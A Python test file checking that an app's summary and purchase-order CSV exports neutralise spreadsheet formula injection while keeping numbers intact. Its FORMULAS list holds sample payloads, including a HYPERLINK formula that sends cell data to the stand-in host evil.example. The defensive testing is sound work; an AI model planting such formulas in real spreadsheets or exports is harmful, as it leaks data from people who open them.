"""Every CSV export neutralises cells a spreadsheet would run as a formula (OWASP "CSV injection": a
cell starting with =, +, -, @, tab or carriage return gets a leading apostrophe), keeps numbers numbers,
and says its type once: ``text/csv; charset=utf-8``."""
from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from sqlalchemy import select

from tests.api.authz_world import COMMITTEE, build_world
from tests.integration.pages_helpers import login

FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "@SUM(1+1)", "+1+1", "-2+3", "\tTAB", "\r=CR"]
DANGER = ("=", "+", "-", "@", "\t", "\r")


def cells(body: bytes) -> list[str]:
    text = body.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_safe(body: bytes, expected: list[str]) -> None:
    found = cells(body)
    for value in expected:
        assert "'" + value in found, (value, "not neutralised")
    for cell in found:
        if cell.startswith(DANGER):
            # Numbers stay numbers (a negative saving is "-12.50", not text).
            float(cell)


@pytest.fixture
def world(db_session, make_network, make_group, make_user, token_for, make_round, make_offer,
          place_order):  # type: ignore[no-untyped-def]
    return build_world(db_session, make_network, make_group, make_user, token_for, make_round, make_offer,
                       place_order)


def test_summary_csv_page_and_api_neutralise_formulas(app, world, db_session):  # type: ignore[no-untyped-def]
    from reports import services as report_services

    world["g1"].name, world["g2"].name = FORMULAS[0], FORMULAS[3]
    db_session.commit()
    report_services.build_summary(world["network"].id, world["month"])
    client = app.test_client()
    login(client, world["users"][COMMITTEE])
    page = client.get(f"/summaries/{world['month']}.csv")
    assert page.status_code == 200 and page.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert_safe(page.data, [FORMULAS[0], FORMULAS[3]])
    api = app.test_client().get(f"/api/v1/summaries/{world['month']}?format=csv",
                                headers=world["headers"][COMMITTEE])
    assert api.status_code == 200 and api.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert_safe(api.data, [FORMULAS[0], FORMULAS[3]])


def test_purchase_order_csv_neutralises_formulas(app, world, db_session):  # type: ignore[no-untyped-def]
    from orders.models import Product

    product: Any = db_session.scalar(select(Product).where(Product.id == world["product"].id))
    product.name, product.unit = FORMULAS[1], FORMULAS[4]
    db_session.commit()
    client = app.test_client()
    login(client, world["users"][COMMITTEE])
    response = client.get(f"/purchase-orders/{world['po'].id}.csv")
    assert response.status_code == 200 and response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert_safe(response.data, [FORMULAS[1], FORMULAS[4]])


def test_cells_neutralised_numbers_kept() -> None:
    from decimal import Decimal

    from core.csv_export import safe_cell

    assert [safe_cell(v) for v in FORMULAS] == ["'" + v for v in FORMULAS]
    assert safe_cell(Decimal("-12.50")) == Decimal("-12.50") and safe_cell(-3) == -3 and safe_cell("-12.50") == "-12.50"
    assert safe_cell(None) == "" and safe_cell("ข้าว =1") == "ข้าว =1" and safe_cell("1e3") == "1e3"
